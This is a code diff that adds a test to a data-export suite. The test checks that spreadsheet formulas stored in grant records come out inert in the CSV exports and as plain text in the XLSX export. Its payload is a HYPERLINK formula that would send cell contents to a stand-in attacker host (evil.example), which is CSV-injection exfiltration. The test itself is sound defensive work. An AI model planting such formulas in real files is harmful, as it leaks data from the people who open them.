@@ -165,6 +165,39 @@ describe("datasets", () => {
   });
 });
 
+describe("spreadsheet formulas in published text (CSV injection)", () => {
+  const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Voir")';
+  it("are made inert in every CSV, kept as plain text in XLSX, and numbers stay numbers", async () => {
+    // Entry refuses such text: this grant is written as older data or another way in could have.
+    const [grant] = await db.sql.query<{ id: string; purpose: string }>(
+      `UPDATE funding SET purpose = $1, payment_terms = '@SUM(1+1)' WHERE id = (
+         SELECT f.id FROM funding f JOIN partner p ON p.id = f.funder_id
+         WHERE f.status = 'PUBLISHED' AND p.is_public_body AND f.instrument = 'GRANT' AND f.year = 2023 AND f.beneficiary_enterprise_id IS NOT NULL
+         ORDER BY f.seq LIMIT 1) RETURNING id::text AS id, purpose`,
+      [FORMULA],
+    );
+    expect(grant?.purpose).toBe(FORMULA);
+    const fundings = await csv("fundings.csv?year=2023");
+    const header = fundings[0] ?? [];
+    const row = fundings.find((r) => r[header.indexOf("id")] === grant?.id) ?? [];
+    expect(row[header.indexOf("purpose")]).toBe(`'${FORMULA}`);
+    expect(row[header.indexOf("payment_terms")]).toBe("'@SUM(1+1)");
+    expect(Number(row[header.indexOf("amount")])).toBeGreaterThan(0);
+    const scdl = await csv("scdl/subventions.csv");
+    const objet = (scdl[0] ?? []).indexOf("objet");
+    expect(scdl.some((r) => r[objet] === `'${FORMULA}`)).toBe(true);
+    expect(scdl.every((r) => !/^[=+@-]/.test(r[objet] ?? ""))).toBe(true);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(await (await get("fundings.xlsx?year=2023")).arrayBuffer());
+    const cells: ExcelJS.Cell[] = [];
+    workbook.getWorksheet("fundings")?.eachRow((r) => {
+      if (r.getCell(header.indexOf("id") + 1).value === grant?.id) cells.push(r.getCell(header.indexOf("purpose") + 1));
+    });
+    expect(cells.map((c) => [c.type, c.value])).toEqual([[ExcelJS.ValueType.String, FORMULA]]);
+  });
+});
+
 it("writes the same CSV bytes whichever way rows are read (COPY on PostgreSQL, batches on PGlite)", async () => {
   const ctx: ExportContext = { sql: db.sql, prisma: db.prisma, epciSiren: loadTerritory().epciSiren, isDemo: true };
   const collect = async (chunks: AsyncIterable<string | Uint8Array>) => {
